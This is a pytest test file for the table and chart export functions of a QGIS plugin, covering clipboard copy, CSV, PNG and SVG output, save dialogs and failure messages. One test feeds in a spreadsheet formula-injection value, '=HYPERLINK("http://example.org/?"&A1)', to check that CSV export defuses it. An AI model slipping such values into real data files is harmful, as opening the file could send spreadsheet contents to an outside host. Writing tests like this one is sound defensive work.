"""Taking tables and charts along: figures as text and CSV, pictures as PNG and SVG."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ElementTree
from dataclasses import replace
from pathlib import Path

import pytest
from mamol.core.contracts.labels import ClassEntry
from mamol.core.contracts.scenario import Scenario
from mamol.core.contracts.train import HistoryPoint
from mamol.core.contracts.what_if import Transition
from mamol.ui.common import exports as exports_module
from mamol.ui.common import save_dialog
from mamol.ui.common.bar_table import Bar, BarTable
from mamol.ui.common.exports import ExportButton
from mamol.ui.common.section import exportable_title
from mamol.ui.routing.heat_table import HeatTable
from mamol.ui.settings import Settings
from mamol.ui.train.training_curve import TrainingCurve
from mamol.ui.what_if.history_table import HistoryTable
from mamol.ui.what_if.transition_table import TransitionTable
from qgis.PyQt.QtCore import QCoreApplication, QPoint, QSize, Qt, QTimer
from qgis.PyQt.QtGui import QColor, QContextMenuEvent, QImage
from qgis.PyQt.QtSvg import QSvgRenderer
from qgis.PyQt.QtTest import QTest
from qgis.PyQt.QtWidgets import QApplication, QMenu, QMessageBox, QVBoxLayout, QWidget

EXPERTS = (*(f"dynamic {number}" for number in range(1, 9)), "shared", "SAR only")
CLASSES = tuple(f"class {number} with quite a long name" for number in range(40))


@pytest.fixture
def window(qgis_app, clean_settings):
    window = QWidget()
    QVBoxLayout(window)
    window.resize(320, 500)
    yield window
    window.deleteLater()


def shown(window, widget):
    window.layout().addWidget(exportable_title(widget.exports.name, widget.exports, window))
    window.layout().addWidget(widget)
    window.layout().addStretch(1)
    window.show()
    QCoreApplication.processEvents()
    return widget


@pytest.fixture
def heat(window):
    """Forty rows and ten columns: more of both than the window shows."""
    table = HeatTable("Experts by class", "hint", window)
    table.show_shares(CLASSES, EXPERTS, [[row / 40 + column / 1e4 for column in range(10)] for row in range(40)])
    return shown(window, table)


def read(path):
    with Path(path).open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def scenario(sensors, class_name, area, confidence):
    classes = (ClassEntry(1, class_name, "#ffff00"),)
    return Scenario("m", sensors, "2026-11-25T08:00:00+00:00", classes, {1: area}, confidence, "", "")


def test_a_table_is_copied_with_ctrl_c_exactly_and_with_its_names(heat):
    heat.setFocus()
    QTest.keyClick(heat, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    lines = [line.split("\t") for line in QApplication.clipboard().text().splitlines()]
    assert lines[0] == ["", *EXPERTS] and len(lines) == 41
    assert lines[2] == [CLASSES[1], *(f"{1 / 40 + column / 1e4:.6g}" for column in range(10))]


def test_bars_transitions_scenarios_and_the_curve_give_their_figures(window):
    bars = BarTable("Worth in agreement", "hint", window)
    bars.show_bars([Bar("SAR", 0.123456, QColor("red")), Bar("DSM; old", float("nan"), QColor("blue"))])
    assert bars.table() == (("Name", "Share"), ("SAR", "0.123456"), ("DSM; old", ""))
    transitions = TransitionTable(window)
    transitions.show_transitions([Transition(1, 2, 7, 12.3456)], [ClassEntry(1, "corn", "#ffff00")])
    assert transitions.table() == (("From", "To", "ha"), ("corn", "no class", "12.3456"))
    one = scenario(("SAR", "DSM"), "corn", 2.5, 0.75)
    other = scenario(("SAR",), "oats", 4.0, float("nan"))
    other = replace(other, gone=(("SAR", 2),), overall=0.625, reference="survey")
    history = HistoryTable(window)
    history.show_scenarios((one, other))
    head, first, second = history.table()
    figures = ("mean confidence", "OA", "reference")
    assert head == ("sensors", "off in places", "date", "model", *figures, "corn (ha)", "oats (ha)")
    assert first == ("SAR + DSM", "", one.date, "m", "0.75", "", "", "2.5", "")
    assert second[1] == "SAR off in 2 polygons" and second[4:] == ("", "0.625", "survey", "", "4")
    curve = TrainingCurve(window)
    curve.set_points((HistoryPoint(1, 0.5), HistoryPoint(2, 0.25, 0.875)))
    assert curve.table()[1:] == (("1", "0.5", ""), ("2", "0.25", "0.875"))


def test_a_name_out_of_a_file_is_no_formula_for_a_spreadsheet(window, tmp_path):
    """In a file and on the clipboard; what the table shows is the name as it is."""
    name = '=HYPERLINK("http://example.org/?"&A1)'
    transitions = TransitionTable(window)
    transitions.show_transitions([Transition(1, 2, 7, 12.5)], [ClassEntry(1, name, "#ffff00")])
    transitions.exports.save_csv(str(tmp_path / "a.csv"))
    transitions.exports.copy()
    assert read(tmp_path / "a.csv")[1] == ["'" + name, "no class", "12.5"]
    assert "\t=" not in "\t" + QApplication.clipboard().text().splitlines()[1].replace('"', "")
    assert transitions.table()[1][0] == name


def test_of_many_changes_the_small_ones_are_shown_together_and_exported_one_by_one(window):
    classes = [ClassEntry(value, f"crop {value}", "#ffff00") for value in range(1, 61)]
    table = TransitionTable(window)
    table.show_transitions([Transition(value, 61 - value, value, value / 100) for value in range(1, 61)], classes)
    assert table.rowCount() == 51 and table.figures()[0] == ("crop 60", "crop 1", "0.60")
    assert table.figures()[-1] == ("10 smaller", "", "0.55")
    assert len(table.table()) == 61 and table.table()[-1] == ("crop 1", "crop 60", "0.01")


def test_a_picture_shows_all_rows_and_columns_sharply_and_leaves_the_table_as_it_was(heat, tmp_path):
    size, place = heat.size(), heat.verticalScrollBar().setValue(3) or heat.verticalScrollBar().value()
    heat.exports.save_picture(str(tmp_path / "table.png"))
    picture = QImage(str(tmp_path / "table.png"))
    assert (heat.size(), heat.verticalScrollBar().value()) == (size, place)
    cell = QSize(heat.columnWidth(0), heat.rowHeight(0))
    assert picture.width() > 2 * 10 * cell.width() and picture.height() > 2 * 40 * heat.fontMetrics().height()
    # The largest share, hence the brightest colour, is in the last column of the last row.
    row = [picture.pixelColor(x, picture.height() - 24).name() for x in range(picture.width())]
    assert row.count(heat.heat(1).name()) > cell.width()
    assert row[-10:] == [row[-1]] * 10, "no scroll bar at the edge"


@pytest.mark.parametrize("kind", [HeatTable, BarTable, TrainingCurve])
def test_an_svg_is_one_that_draws_and_holds_the_names_as_text(window, tmp_path, kind):
    if kind is TrainingCurve:
        widget, words = TrainingCurve(window), "accuracy"
        widget.set_points((HistoryPoint(1, 0.5), HistoryPoint(2, 0.25, 0.875)))
    else:
        widget, words = kind("What <b> is & worth", "hint", window), "SAR"
        if kind is BarTable:
            widget.show_bars([Bar("SAR", 0.25, QColor("#e69f00"))])
        else:
            widget.show_shares(["SAR"], EXPERTS, [[0.1] * 10])
    shown(window, widget)
    path = tmp_path / "chart.svg"
    widget.exports.save_picture(str(path))
    texts = [element.text or "" for element in ElementTree.parse(path).iter("{http://www.w3.org/2000/svg}text")]
    assert any(words in text for text in texts) and widget.accessibleName() in "".join(texts)
    renderer = QSvgRenderer(str(path))
    assert renderer.isValid() and renderer.defaultSize().width() > 200


def test_a_file_that_cannot_be_written_gets_a_sentence(heat, tmp_path):
    said = []
    heat.exports.refused.connect(said.append)
    heat.exports.save_csv(str(tmp_path / "gone" / "table.csv"))
    heat.exports.save_picture(str(tmp_path / "gone" / "table.png"))
    assert len(said) == 2 and all("gone" in sentence for sentence in said)
    assert not list(tmp_path.iterdir())


def test_the_dialog_remembers_the_folder_and_adds_the_ending(heat, tmp_path, monkeypatch):
    asked = []

    def answer(parent, title, start, kinds):
        asked.append(start)
        return str(tmp_path / "mine"), kinds.split(";;")[-1]

    monkeypatch.setattr(save_dialog.QFileDialog, "getSaveFileName", answer)
    heat.exports.csv_action.trigger()
    assert read(tmp_path / "mine.csv")[0] == ["", *EXPERTS]
    heat.exports.picture_action.trigger()
    assert (tmp_path / "mine.svg").read_bytes().startswith(b"<?xml")
    assert asked == ["experts_by_class.csv", str(tmp_path / "experts_by_class.png")]
    assert Settings().export_folder == str(tmp_path)


@pytest.mark.parametrize("answer", [QMessageBox.StandardButton.No, QMessageBox.StandardButton.Yes])
def test_an_ending_that_is_added_does_not_hit_a_file_unasked(heat, tmp_path, monkeypatch, answer):
    """The file dialog asks about "mine"; what is there is "mine.csv"."""
    (tmp_path / "mine.csv").write_text("of last year")
    asked = []

    def say(parent, title, question, *_):
        asked.append(question)
        return answer

    monkeypatch.setattr(save_dialog.QFileDialog, "getSaveFileName", lambda *_: (str(tmp_path / "mine"), "CSV (*.csv)"))
    monkeypatch.setattr(save_dialog.QMessageBox, "question", say)
    heat.exports.csv_action.trigger()
    assert asked == ["'mine.csv' already exists. Replace it?"]
    assert ((tmp_path / "mine.csv").read_text() == "of last year") == (answer == QMessageBox.StandardButton.No)


def test_the_menu_opens_from_the_button_and_from_the_menu_key(heat, window):
    button = window.findChild(ExportButton)
    assert button.focusPolicy() & Qt.FocusPolicy.TabFocus and "Experts by class" in button.toolTip()
    assert [action.text() for action in button.actions()] == [action.text() for action in heat.exports.actions]
    opened = []

    def look():
        menu = QApplication.activePopupWidget()
        opened.append([action.text() for action in menu.actions()] if isinstance(menu, QMenu) else [])
        menu.close()

    heat.setFocus()
    QTimer.singleShot(300, look)
    QApplication.sendEvent(heat, QContextMenuEvent(QContextMenuEvent.Reason.Keyboard, QPoint(5, 5)))
    assert opened == [[action.text() for action in heat.exports.actions]]


def test_every_failed_export_in_the_dock_is_said_in_its_message_bar(dock, sentences, tmp_path):
    found = dock.findChildren(exports_module.Exports)
    names = {one.name for one in found}
    assert {"Training curve", "Classes", "Kept scenarios", "Class changes", "Worth in agreement",
            "Experts by class", "Gates of the dynamic experts"} <= names  # fmt: skip
    for one in found:
        dock.message_bar.clearWidgets()
        one.save_csv(str(tmp_path / "nowhere" / "x.csv"))
        assert any("nowhere" in sentence for sentence in sentences()), one.name
